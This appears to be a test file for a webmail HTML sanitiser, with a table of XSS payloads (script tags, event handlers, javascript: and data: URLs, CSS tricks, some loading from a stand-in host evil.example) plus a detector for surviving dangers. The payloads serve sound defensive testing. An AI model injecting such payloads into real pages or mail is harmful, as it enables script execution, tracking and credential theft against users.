import { cpuTime } from '#tests/support/cpu_time'
import { test } from '@japa/runner'
import fc from 'fast-check'
import { sanitizeMailHtml } from '../../../backend/app/mail/sanitize_mail_html.js'

const noImages = { cidMap: () => null }
const clean = (html: string) => sanitizeMailHtml(html, noImages).html

const ATTACKS = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img/src=x/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/t)}</style>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="jav\u200bascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/api/logout">x</a>',
  '<a href="//evil.example">x</a>',
  '<a onmouseover=alert(1) href="https://x.example">x</a>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img srcset="https://evil.example/t.gif 1x" src=x>',
  '<img data-remote-src="javascript:alert(1)">',
  '<input type=image src=x onerror=alert(1)>',
  '<video poster="https://evil.example/t.gif"><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<table background="https://evil.example/t.gif"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<div style="background-image:url(https://evil.example/t.gif)">x</div>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc)">x</div>',
  '<div style="-moz-binding:url(x.xml#a)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</div>',
  '<div style="color:red;background:u\\72l(https://evil.example)">x</div>',
  '<div style="font-family:\'x\';background:url(//evil.example)">x</div>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<template><script>alert(1)</script></template>',
  '<p id="location" name="cookie" class="admin-toolbar">x</p>',
  '<a href="https://x.example" target="_self" rel="opener">x</a>',
  '<<script>alert(1)//<</script>',
  '"><script>alert(1)</script>',
  '<div title="x" onclick="alert(1)" contenteditable tabindex=0 autofocus onfocus=alert(1)>x</div>',
  '<dialog open>x</dialog><portal src="https://evil.example"></portal>',
  '<keygen autofocus onfocus=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
]

/** A second look at the result, tag by tag, that does not trust the sanitiser's own parser. */
function dangers(html: string): string[] {
  const found: string[] = []
  if (/<!--|<!\[CDATA/i.test(html)) found.push('comment')
  for (const [tag, name] of html.matchAll(/<\/?([a-z][^\s/>]*)(?:"[^"]*"|'[^']*'|[^'">])*>?/gi)) {
    if (
      /^(script|style|svg|math|iframe|object|embed|applet|form|input|button|textarea|select|meta|base|link|video|audio|source|template|noscript|xmp|plaintext|title|dialog|portal|body|html|head|marquee|keygen)$/i.test(
        name
      )
    ) {
      found.push(name)
    }
    for (const [, attribute, value] of tag.matchAll(/\s([a-z-]+)="([^"]*)"/gi)) {
      if (
        /^(on|srcset|srcdoc|background|poster|id|name|class|form|xlink|contenteditable|autofocus)/i.test(
          attribute
        )
      ) {
        found.push(attribute)
      }
      if (attribute === 'href' && !/^(https?:\/\/|mailto:|tel:)/.test(value)) found.push(tag)
      if (attribute === 'src' && !/^(data:image\/(png|jpe?g|gif|webp);|\/files\/)/.test(value))
        found.push(tag)
      if (attribute === 'data-remote-src' && !/^https?:\/\//.test(value)) found.push(tag)
      if (
        attribute === 'style' &&
        /url|expression|position|behavior|binding|z-index|\\/i.test(value)
      ) {
        found.push(tag)
      }
    }
  }
  return found
}

test.group('Sanitize mail HTML', () => {
  test('no attack of the table survives', ({ assert }) => {
    for (const attack of ATTACKS) {
      const html = clean(`<p>vorher</p>${attack}<p>nachher</p>`)
      assert.deepEqual(dangers(html), [], `${attack}\n${html}`)
      assert.include(html, '<p>vorher</p>')
      assert.deepEqual(dangers(clean(html)), [], 'cleaned twice')
    }
  })

  test('the check itself sees what it looks for', ({ assert }) => {
    const seen = [
      '<p onclick="x">',
      '<script>',
      '<a href="javascript:x">',
      '<img src="https://x/t">',
      '<p style="position:fixed">',
      '<!-- -->',
    ]
    for (const html of seen) assert.isNotEmpty(dangers(html), html)
  })

  test('attacks glued together at random do not survive either', ({ assert }) => {
    const piece = fc.oneof(
      fc.constantFrom(...ATTACKS),
      fc.constantFrom('<', '>', '"', "'", '</', '<!--', '-->', '<p ', '<a href=', '&lt;', '=', '/')
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), fc.nat(200), (pieces, cut) => {
        const html = clean(pieces.join('').slice(cut % 20))
        assert.deepEqual(dangers(html), [], html)
      }),
      { numRuns: 1000 }
    )
  })

  test('remote images are held back and counted, inline ones come from us', ({ assert }) => {
    const png = 'data:image/png;base64,iVBORw0KGgo='
    const source = `<img src="https://x.example/t.gif" alt="Bild"><img src="//x.example/u.gif"><img src="cid:logo%40x"><img src="cid:weg"><img src="${png}">`
    const { html, remoteImages } = sanitizeMailHtml(source, {
      cidMap: (cid) => (cid === 'logo@x' ? '/files/7' : null),
    })
    assert.equal(remoteImages, 2)
    assert.equal(
      html,
      `<img alt="Bild" data-remote-src="https://x.example/t.gif" /><img data-remote-src="https://x.example/u.gif" /><img src="/files/7" /><img /><img src="${png}" />`
    )
  })

  test('links open apart and tell nobody where they were clicked', ({ assert }) => {
    assert.equal(
      clean('<a href="https://x.example/a?b=1&amp;c=2" target="_top">x</a>'),
      '<a href="https://x.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">x</a>'
    )
    assert.include(clean('<a href="mailto:kim@x.example">x</a>'), 'href="mailto:kim@x.example"')
    assert.include(clean('<a href="tel:+49 30 1">x</a>'), 'href="tel:+49301"')
  })

  test('an ordinary business mail keeps its shape', ({ assert }) => {
    const html =
      '<table width="600" cellpadding="0"><tr><td style="padding:4px 8px;color:#333">Zeile</td></tr></table><p style="font-family:Calibri, sans-serif;font-size:11pt;margin:0">Text</p><blockquote type="cite">Alt</blockquote><ul><li>Eins</li></ul>'
    assert.equal(clean(html).replace(/<\/?tbody>/g, ''), html)
  })

  test('nothing may be wider than a page', ({ assert }) => {
    assert.equal(
      clean('<table width="9000"><tr><td style="width:9000px;max-width:600px">x</td></tr></table>'),
      '<table><tr><td style="max-width:600px">x</td></tr></table>'
    )
  })

  test('deep and endless markup is answered in time', ({ assert }) => {
    for (const html of [
      '<div>'.repeat(100_000),
      '<a href="'.repeat(50_000),
      '<'.repeat(300_000),
      '<p style="color:red;'.repeat(20_000),
    ]) {
      const start = cpuTime()
      assert.deepEqual(dangers(clean(html).slice(0, 100_000)), [])
      assert.isBelow(cpuTime() - start, 10_000, html.slice(0, 10))
    }
  }).timeout(30_000)
})
